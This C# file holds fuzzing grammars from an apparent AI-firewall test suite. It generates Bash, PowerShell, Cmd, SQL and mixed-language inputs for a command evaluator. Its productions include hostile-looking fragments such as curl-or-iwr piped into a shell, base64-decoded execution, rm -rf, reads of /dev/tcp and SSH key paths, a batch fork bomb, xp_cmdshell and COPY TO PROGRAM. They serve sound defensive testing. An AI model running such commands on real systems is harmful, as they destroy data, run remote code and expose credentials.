namespace AiFirewall.Tests.Fuzzing;

/// <summary>Grammars of what is generated. They lean to what readers have to work for, not to what people write.</summary>
internal static class Grammars
{
    /// <summary>Beside <see cref="Shells.Bash.RandomScript"/>, which leans to syntax: what the evaluator follows.</summary>
    public static TextGrammar Bash { get; } = new("""
        script: <command>
        script: <command>; <script>
        script: <command>⏎<script>
        script: <command> && <script>
        script: <assign>; <script>
        script: set -- <word> <word>; <script>
        command: rm -rf <word>
        command: echo <word> <word>
        command: echo <word> > <path>
        command: cat <path>
        command: git <word> <word>
        command: curl -s https://<name>.example/<name> | <shell>
        command: eval "<word> <word>"
        command: <shell> -c '<simple>'
        command: <shell> <<E⏎<script>⏎E⏎true
        command: <shell> <<'E'⏎<simple>⏎E⏎true
        command: for <name> in <word> <word> {1..<number>}; do <script>; done
        command: for (( <name>=0; <name><<number>; <name>++ )); do <script>; done
        command: while read -r <name>; do <script>; done < <path>
        command: while <command>; do <script>; done
        command: if <command>; then <script>; else <script>; fi
        command: if [[ $<name> == <word> ]]; then <script>; fi
        command: case <word> in <word>) <script>;; *) <script>;; esac
        command: <name>() { <script>; }; <name> <word>
        command: ( <script> )
        command: { <script>; }
        command: <command> | <command>
        command: <command> || <command>
        command: find <path> -name <word> -exec <simple> {} \;
        command: xargs -I{} <simple> {}
        command: sudo <simple>
        command: env <name>=<word> <simple>
        command: timeout <number> <simple>
        command: printf '%s\n' <word> | <shell>
        command: echo <word> | base64 -d | <shell>
        command: alias <name>='<simple>'⏎<name>
        command: trap '<simple>' EXIT
        command: read -r <name> <<< <word>
        command: cd <path>
        command: tee <path> <<< <word>
        command: python3 -c "import os; os.system('<simple>')"
        command: exec <number>> <path>
        command: source <path>
        command: export <name>=<word>
        command: unset <name>
        command: shift
        command: (( <name> = <arith> ))
        command: let <name>=<number>
        command: $<name> <word>
        command: "${<name>[@]}"
        command: local <name>=<word>
        command: ssh host.example '<simple>'
        command: docker run --rm -v <path>:/x alpine <simple>
        simple: ls <name>
        simple: rm -rf <path>
        simple: cat <path>
        simple: echo <name>
        simple: chmod -R 777 <path>
        shell: bash
        shell: sh
        shell: zsh
        assign: <name>=<word>
        assign: <name>+=<word>
        assign: <name>=(<word> <word>)
        assign: <name>[<number>]=<word>
        assign: <name>=$(<command>)
        assign: <name>=`<simple>`
        assign: declare -A <name>=([<name>]=<word>)
        assign: IFS=<word>
        arith: <number>
        arith: <name> + <arith>
        arith: (<arith>) * <arith>
        arith: <arith> ? <arith> : <arith>
        arith: <name> << <number>
        arith: <number> / <number>
        arith: <name>[<number>]
        arith: -<arith> ** <number>
        word: <name>
        word: <path>
        word: "$<name>"
        word: $<name>
        word: ${<name>}
        word: ${<name>:-<word>}
        word: ${<name>:=<word>}
        word: ${<name>#<word>}
        word: ${<name>%%<word>}
        word: ${<name>//<word>/<word>}
        word: ${<name>:<arith>:<arith>}
        word: ${<name>^^}
        word: ${!<name>}
        word: ${#<name>}
        word: ${<name>[<number>]}
        word: ${<name>[@]:<number>}
        word: ${<name>@Q}
        word: "<word> <word>"
        word: '<simple>'
        word: $'\x<number>\u00<number>'
        word: {<word>,<word>}
        word: {<number>..<number>..<number>}
        word: $((<arith>))
        word: $(<command>)
        word: "$(<script>)"
        word: `<simple>`
        word: <(<command>)
        word: >(<command>)
        word: <word><word>
        word: $1
        word: $@
        word: "$*"
        word: ~/<name>
        word: *
        word: -<name>
        path: <name>
        path: /
        path: ~
        path: /etc/<name>
        path: ./<name>/../<name>
        path: $HOME/.ssh/<name>
        path: /dev/<name>
        path: /dev/tcp/<name>/<number>
        path: /tmp/<name>*
        path: <word>
        name: a
        name: b
        name: x
        name: PATH
        name: HOME
        name: rf
        name: sda
        name: id_rsa
        number: 1
        number: 0
        number: 41
        number: 999999999999
        number: -1
        number: 10#08
        """);

    public static TextGrammar PowerShell { get; } = new("""
        script: <statement>
        script: <statement>; <script>
        script: <statement>⏎<script>
        script: param($<name> = <value>)⏎<script>
        script: begin { <script> } process { <script> } end { <script> }
        statement: <command>
        statement: $<name> = <value>
        statement: $<name> += <value>
        statement: $env:<name> = <value>
        statement: if (<value>) { <script> } else { <script> }
        statement: foreach ($<name> in <value>) { <script> }
        statement: for ($<name> = 0; $<name> -lt <number>; $<name>++) { <script> }
        statement: while (<value>) { <script>; break }
        statement: do { <script> } until (<value>)
        statement: switch (<value>) { <value> { <script> } default { <script> } }
        statement: try { <script> } catch { <script> } finally { <script> }
        statement: function <name> { param($<name>) <script> }; <name> <value>
        statement: filter <name> { <script> }; <value> | <name>
        statement: class <name> { [string]$<name> = <value>; [void] <name>() { <script> } }
        statement: <command> | <command>
        statement: <command> && <command>
        statement: trap { <script> }
        statement: return <value>
        statement: throw <value>
        statement: <value>
        command: Get-Item <value>
        command: Remove-Item -Recurse -Force <value>
        command: rm -r <value>
        command: iex <value>
        command: & <value> <value>
        command: . { <script> }
        command: & { <script> } <value>
        command: Invoke-Command -ScriptBlock { <script> } -ArgumentList <value>
        command: ForEach-Object { <script> }
        command: % { $_ <op> <value> }
        command: Where-Object { <value> }
        command: Set-Content -Path <value> -Value <value>
        command: <name> @<name> -<name>:<value>
        command: pwsh -Command { <script> }
        command: powershell -NoProfile -c "<simple>"
        command: powershell -enc ZQBjAGgAbwAgADEA
        command: Start-Process <value> -ArgumentList <value>
        command: cmd /c "<simple>"
        command: bash -c '<simple>'
        command: New-Object Net.WebClient
        command: iwr https://<name>.example/x | iex
        command: Start-Job { <script> }
        command: echo <value> > <name>
        command: Write-Host "<text>"
        simple: Get-Item <name>
        simple: rd /s /q <name>
        simple: rm -rf <name>
        value: '<name>'
        value: "<text>"
        value: $<name>
        value: $_
        value: <number>
        value: (<command>)
        value: (<value>)
        value: $(<script>)
        value: @(<value>, <value>)
        value: @{<name> = <value>; <name> = <value>}
        value: { <script> }
        value: <value> <op> <value>
        value: -not <value>
        value: [<type>]<value>
        value: [<type>]::<name>(<value>)
        value: [IO.File]::Delete(<value>)
        value: [Convert]::FromBase64String(<value>)
        value: [Text.Encoding]::UTF8.GetString(<value>)
        value: (<value>).<name>
        value: (<value>).<method>(<value>)
        value: (<value>)[<value>]
        value: <value>, <value>
        value: (<value> ? <value> : <value>)
        value: @"⏎<text>⏎"@
        value: @'⏎<simple>⏎'@
        value: $<name>.<name>.<method>()
        value: ${<name>}
        value: $($<name>; <value>)
        text: <name>
        text: <name> $<name> <text>
        text: $(<value>)<text>
        text: `<name>`"<text>
        text: {0}{1:x}{<number>}
        op: +
        op: -f
        op: -join
        op: -split
        op: -replace
        op: *
        op: -eq
        op: -match
        op: -and
        op: ..
        op: -band
        op: -as
        op: -shl
        op: ??
        method: Replace
        method: Substring
        method: Split
        method: ToString
        method: Trim
        method: ToCharArray
        method: Invoke
        method: ForEach
        method: PadLeft
        type: string
        type: char
        type: int
        type: char[]
        type: byte[]
        type: scriptblock
        type: Convert
        type: Collections.Generic.List[string]
        type: datetime
        name: a
        name: x
        name: PSScriptRoot
        name: env:PATH
        name: script:b
        name: args
        name: input
        number: 1
        number: 0
        number: -1
        number: 0x41
        number: 1kb
        number: 99999999999999999999
        number: 1e400
        number: 65
        """);

    public static TextGrammar Cmd { get; } = new("""
        script: <command>
        script: <command> & <script>
        script: <command>⏎<script>
        script: @echo off⏎<script>
        script: setlocal enabledelayedexpansion⏎<script>
        script: :<name>⏎<script>⏎goto <name>
        script: <script>⏎goto :eof⏎:<name>⏎<script>
        command: del /s /q <word>
        command: rd /s /q <word>
        command: echo <word>
        command: set <name>=<word>
        command: set /a <name>=<arith>
        command: set /p <name>=<word>
        command: set "<name>=<word>"
        command: if exist <word> (<command>) else (<command>)
        command: if "%<name>%"=="<word>" <command>
        command: if not defined <name> goto <name>
        command: if <number> lss <number> <command> else <command>
        command: for %%<letter> in (<word> <word>) do <command>
        command: for %<letter> in (<word>) do (<script>)
        command: for /l %%<letter> in (<number>,<number>,<number>) do <command>
        command: for /f "tokens=1,2* delims=<word>" %%<letter> in ('<command>') do <command>
        command: for /f "usebackq skip=<number>" %<letter> in (`<command>`) do <command>
        command: for /r <word> %%<letter> in (*) do <command>
        command: call :<name> <word> <word>
        command: call <word> <word>
        command: cmd /c "<command>"
        command: start "" <word> <word>
        command: powershell -c "Get-Item <name>"
        command: (<script>)
        command: <command> | <command>
        command: <command> && <command>
        command: <command> || <command>
        command: <command> > <word>
        command: <command> 2>&1 >> <word>
        command: <command> < <word>
        command: goto <name>
        command: shift
        command: exit /b <number>
        command: pushd <word>
        command: cd /d <word>
        command: rem <command>
        command: %<name>% <word>
        command: !<name>! <word>
        command: certutil -decode <word> <word>
        command: reg delete <word> /f
        command: copy <word> <word>
        command: %0|%0
        arith: <number>
        arith: <name> + <arith>
        arith: (<arith>) %% <arith>
        arith: <name> <<= <number>
        arith: <number> / <arith>
        arith: ~<arith>, <arith>
        word: <name>
        word: "<word>"
        word: %<name>%
        word: !<name>!
        word: %<name>:~<number>,<number>%
        word: !<name>:~<number>!
        word: %<name>:<name>=<name>%
        word: %%<letter>
        word: %%~dpnx<letter>
        word: %1
        word: %*
        word: %~f0
        word: C:\<word>
        word: \\server\<name>
        word: ^<name>^&
        word: <word><word>
        word: *.*
        name: x
        name: a
        name: ComSpec
        name: CD
        name: PATH
        name: RANDOM
        letter: i
        letter: A
        number: 1
        number: 0
        number: -1
        number: 99999999999
        number: 3
        """);

    public static TextGrammar Sql { get; } = new("""
        script: <statement>
        script: <statement>; <script>
        script: BEGIN <script>; END
        script: DECLARE <name> INT; <script>
        script: DO $$ BEGIN <script>; END $$
        script: CREATE FUNCTION <name>() RETURNS int AS $f$ <script> $f$ LANGUAGE sql
        script: EXPLAIN ANALYZE <script>
        script: /*!50000 <script> */
        script: -- <name>⏎<script>
        script: DELIMITER //⏎<script>//
        script: \! <name>⏎<script>
        statement: SELECT <value> FROM <name> WHERE <cond>
        statement: DELETE FROM <name> WHERE <cond>
        statement: DELETE FROM <name>
        statement: UPDATE <name> SET <name> = <value> WHERE <cond>
        statement: WITH <name> AS (<statement>) <statement>
        statement: INSERT INTO <name> SELECT <value> FROM (<statement>) <name>
        statement: MERGE INTO <name> USING <name> ON <cond> WHEN MATCHED THEN DELETE
        statement: DROP <object> IF EXISTS <name> CASCADE
        statement: TRUNCATE TABLE <name>, <name>
        statement: ALTER TABLE <name> DROP COLUMN <name>
        statement: GRANT ALL ON <name> TO <name>
        statement: EXEC('<statement>')
        statement: EXECUTE IMMEDIATE '<statement>'
        statement: PREPARE <name> FROM '<statement>'
        statement: EXEC xp_cmdshell '<name>'
        statement: COPY <name> TO PROGRAM '<name>'
        statement: IF <cond> <statement> ELSE <statement>
        statement: WHILE <cond> BEGIN <statement> END
        statement: SET @<name> = <value>
        statement: SELECT LOAD_FILE(<value>)
        statement: ATTACH DATABASE <value> AS <name>
        statement: CREATE TABLE <name> AS <statement>
        statement: CALL <name>(<value>)
        cond: 1 = 1
        cond: <name> = <value>
        cond: <cond> OR <cond>
        cond: NOT (<cond>)
        cond: <value> BETWEEN <value> AND <value>
        cond: <value> IN (<value>, <value>)
        cond: <value> IN (<statement>)
        cond: EXISTS (<statement>)
        cond: <value> LIKE <value>
        cond: <value> IS NOT NULL
        cond: <value> <=> <value>
        cond: <name> = <name>
        cond: (<cond>)
        value: 1
        value: <name>
        value: 'x'
        value: N'<name>'
        value: E'\x41\''
        value: $t$<name>$t$
        value: "<name>"
        value: [<name>]
        value: `<name>`
        value: @<name>
        value: :<name>
        value: 0x41
        value: 1e400
        value: -<value>
        value: <value> + <value>
        value: <value> || <value>
        value: CASE WHEN <cond> THEN <value> ELSE <value> END
        value: CAST(<value> AS int)
        value: CONCAT(<value>, <value>)
        value: (<statement>)
        value: <value>::text
        value: CHAR(<value>)
        value: q'[<name>]'
        object: TABLE
        object: DATABASE
        object: SCHEMA
        object: VIEW
        object: USER
        name: users
        name: a
        name: "x y"
        name: dbo.[t]
        name: #t
        name: `p`.`q`
        name: t
        """);

    /// <summary>Code of many languages at once: their readers share their parts, and none may fail on another's.</summary>
    public static TextGrammar Code { get; } = new("""
        script: <statement>
        script: <statement>; <script>
        script: <statement>⏎<script>
        script: <statement>⏎    <statement>⏎<script>
        statement: <value>
        statement: <name> = <value>
        statement: import <name>, <name> as <name>
        statement: from <name> import <name>
        statement: const <name> = require(<value>)
        statement: use <name>;
        statement: $<name> = <value>;
        statement: my @<name> = (<value>);
        statement: local <name> = <value>
        statement: if <value>: <statement>
        statement: if (<value>) { <statement> } else { <statement> }
        statement: for <name> in <value>: <statement>
        statement: foreach (<value> as $<name>) { <statement> }
        statement: for (let <name> of <value>) { <statement> }
        statement: <value>.each { |<name>| <statement> }
        statement: while <value> do <statement> end
        statement: def <name>(<name>): <statement>
        statement: function <name>(<name>) { <statement> }
        statement: def <name> <statement> end
        statement: try: <statement>⏎except: <statement>
        statement: BEGIN { <statement> }
        statement: /<name>/ { <statement> }
        statement: with open(<value>, 'w') as <name>: <name>.write(<value>)
        statement: lambda: <value>
        statement: tell application "<name>" to <statement>
        statement: do shell script <value>
        statement: return <value>
        value: 'a'
        value: <call>(<value>)
        value: <call>(<value>, <value>, <name>=<value>)
        value: <call> <value>
        value: <name>
        value: $<name>
        value: "<name> #{<value>} ${<name>} {<name>}"
        value: f"<name>{<value>}"
        value: `<name> ${<value>}`
        value: %w(<name> <name>)
        value: q{<name>}
        value: qw/<name>/
        value: '''<name>⏎'''
        value: [<value>, <value>]
        value: [<value> for <name> in <value>]
        value: {<name>: <value>}
        value: {<value> => <value>}
        value: (<value>)
        value: <value> + <value>
        value: <value> . <value>
        value: <value> * <number>
        value: <value>[<value>]
        value: <value>[<number>:<number>]
        value: <value>.<name>
        value: <value>.join(<value>)
        value: <value>->{<name>}
        value: (<name>) => <value>
        value: <value> ? <value> : <value>
        value: <number>
        value: chr(<number>)
        value: <<E⏎<name>⏎E⏎
        value: /<name>/g
        value: s/<name>/<value>/e
        value: not <value>
        call: print
        call: os.system
        call: subprocess.run
        call: exec
        call: eval
        call: open
        call: shutil.rmtree
        call: unlink
        call: require('child_process').execSync
        call: fs.rmSync
        call: FileUtils.rm_rf
        call: base64.b64decode
        call: system
        call: "".join
        call: os.path.join
        call: requests.post
        call: file_put_contents
        call: getattr
        call: bytes.fromhex
        call: unpack
        name: a
        name: x
        name: os
        name: _
        name: __import__
        number: 1
        number: -1
        number: 0x7fffffff
        number: 99999999999
        number: 1e9
        """);
}
